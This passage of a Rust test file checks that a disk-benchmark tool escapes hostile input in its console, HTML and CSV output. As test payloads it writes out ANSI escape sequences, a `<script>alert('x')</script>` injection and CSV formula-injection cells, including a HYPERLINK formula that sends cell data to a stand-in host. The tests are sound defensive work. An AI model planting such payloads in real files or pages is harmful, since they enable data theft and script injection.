        assert!(!has_control(&err), "{args:?}: raw control characters: {err:?}");
        assert!(err.contains(escaped), "{args:?}: {err}");
    }
    // A file name with an escape sequence, in fleet's warning.
    let sub = dir.join("rack");
    fs::create_dir_all(&sub).unwrap();
    fs::copy(fixtures().join(RAID_A), sub.join("a.json")).unwrap();
    fs::write(sub.join(format!("{hostile}.json")), "[]").unwrap();
    let o = run(&["fleet", sub.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(!has_control(&err), "raw control characters: {err:?}");
    assert!(
        err.contains(&format!("{escaped}.json: not a bootbench result document")),
        "{err}"
    );

    // extract: a damaged frame and a refused one, both named with escapes.
    let n = frame::Nonce([0x51; 16]);
    let mut damaged = frame::encode(&format!("{hostile}-1.json"), b"{\"x\":1}", n);
    let at = damaged.find('\n').unwrap() + 3;
    let c = if &damaged[at..=at] == "A" { "B" } else { "A" };
    damaged.replace_range(at..=at, c);
    let log =
        frame::announce(n) + &damaged + &frame::encode(&format!("{hostile}-2.json"), b"{}", frame::Nonce([0; 16]));
    let path = dir.join("console.log");
    fs::write(&path, &log).unwrap();
    let o = run(&[
        "extract",
        path.to_str().unwrap(),
        "-o",
        dir.join("out").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(!has_control(&err), "raw control characters: {err:?}");
    assert!(err.contains(&format!("frame {escaped}-1.json: damaged")), "{err}");
    assert!(err.contains(&format!("frame {escaped}-2.json: refused")), "{err}");
    let _ = fs::remove_dir_all(&dir);
}

/// A surface scan made on the simulated HDD (three unreadable sectors, a
/// slow one, 16 zones; `common::scanned_document`), through the binary:
/// `show` prints it under its disk (a line per time class, the LBAs, the
/// slow read first, a line per zone with its MB/s); `html` gives it a
/// section with a dot per zone on its chart and the LBAs. The scan's error
/// and the disk's model, hostile, are escaped: the console's escapes in
/// `show`, HTML's in `html`.
#[test]
fn show_and_html_render_a_simulated_surface_scan() {
    let dir = scratch("surface-scan");
    let hostile = "\u{1b}[2J<script>alert('x')</script>";
    let s = scanned_document(Some(hostile), Some("<script>HDD</script>"));
    let lbas: Vec<String> = SCAN_BAD.iter().map(|b| (b / 512).to_string()).collect();
    assert_eq!(s.scan.unreadable_lbas.len(), 3, "{:?}", s.scan);
    let p = dir.join("scan.json");
    fs::write(&p, &s.json).unwrap();
    let ps = p.to_str().unwrap();

    let out = ok(&["show", ps]);
    assert!(!has_control(&out), "raw control characters: {out:?}");
    let start = out.find(&format!("-- {} (", s.path)).expect(&out);
    let block = &out[start..];
    let block = &block[block.find("surface scan (").expect(block)..];
    let block = &block[..block.find("\n-- ").unwrap_or(block.len())];
    assert!(
        block.contains(&format!(
            "unreadable LBAs (no read returned them), 3: {}\n",
            lbas.join(", ")
        )),
        "{block}"
    );
    assert!(
        block.contains("  ended: error: the scan could not go on: \\x1b[2J<script>alert('x')</script>\n"),
        "{block}"
    );
    let class = |label: &str| -> Vec<&str> {
        let line = block
            .lines()
            .find(|l| l.trim_start().starts_with(&format!("{label} ")))
            .expect(label);
        line.split_whitespace().collect()
    };
    assert_eq!(class("50-150 ms").last(), Some(&"1"), "the slow sector's read");
    assert_eq!(class("failed").last(), Some(&"2"), "two reads held the bad sectors");
    let slow_lba = (SCAN_SLOW >> 20 << 20) / 512;
    let first = block
        .lines()
        .skip_while(|l| !l.starts_with("the 5 slowest reads:"))
        .nth(2)
        .expect(block);
    let cells: Vec<&str> = first.split_whitespace().collect();
    assert_eq!(cells[..2], [slow_lba.to_string().as_str(), "1048576"], "{first}");
    assert!(cells[2].parse::<f64>().unwrap() > 60.0, "{first}");
    let zones: Vec<&str> = block.lines().filter(|l| l.contains(" GB  ")).collect();
    assert_eq!(zones.len(), 16, "{block}");
    let rate = |l: &str| -> f64 { l.split_whitespace().nth(2).unwrap().parse().unwrap() };
    assert!(zones.iter().all(|l| l.contains(" MB/s  #")), "{block}");
    assert!(rate(zones[0]) > rate(zones[15]) * 1.5, "outside faster: {block}");

    let page = dir.join("scan.html");
    let o = run(&["html", ps, "-o", page.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let html = fs::read_to_string(&page).unwrap();
    assert!(!html.contains("<script"), "a raw tag from the document");
    let sec = element(&html, "<section class=\"surface-scan\"", "</section>");
    assert!(
        sec.contains(&format!(
            "Unreadable LBAs (no read returned them), 3: {}</p>",
            lbas.join(", ")
        )),
        "{sec}"
    );
    assert!(
        sec.contains(
            "<dd>error: the scan could not go on: \u{1b}[2J&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;</dd>"
        ),
        "{sec}"
    );
    assert!(
        sec.contains(&format!("<tr><td>{slow_lba}</td><td>1048576</td>")),
        "{sec}"
    );
    let chart = element(sec, "<svg class=\"chart\" data-chart=\"surface-scan\"", "</svg>");
    assert_eq!(chart.matches("<circle class=\"mark\"").count(), 16, "a dot per zone");
    assert_eq!(chart.matches("<line class=\"unreadable\"").count(), 2, "{chart}");
    let _ = fs::remove_dir_all(&dir);
}

/// A CSV text cell that a spreadsheet would run as a formula (starting
/// with `=`, `+`, `-`, `@`, tab or carriage return: OWASP's CSV injection
/// list) starts with a `'`; figures, negative ones too, stay numbers.
#[test]
fn csv_text_cells_never_start_a_formula() {
    let real: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(fixtures().join(READ_ERROR)).unwrap()).unwrap();
    let dir = scratch("csv-formula");
    for text in ["=HYPERLINK(\"http://x/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
        let mut v = real.clone();
        mutate(&mut v, text, -1.5, 7);
        let p = dir.join("doc.json");
        fs::write(&p, v.to_string()).unwrap();
        let out = ok(&["csv", p.to_str().unwrap()]);
        let mut r = ::csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(out.as_bytes());
        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert!(!rows.is_empty(), "{text:?}");
        let mut figures = 0;
        for row in &rows {
            for (h, cell) in header.iter().zip(row.iter()) {
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    assert!(cell.parse::<f64>().is_ok(), "{text:?}: {h} = {cell:?} is no number");
                }
            }
            let col = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
            assert_eq!(col("target"), format!("'{text}"), "{text:?}");
            assert_eq!(col("test"), format!("'{text}"), "{text:?}");
            assert_eq!(col("file"), p.display().to_string());
            if !col("read_bytes_per_sec").is_empty() {
                assert_eq!(col("read_bytes_per_sec"), "-1.5", "a figure stays a number");
                figures += 1;
            }
        }
        assert!(figures > 0, "{text:?}: a row with a figure");
    }
    let _ = fs::remove_dir_all(&dir);
}
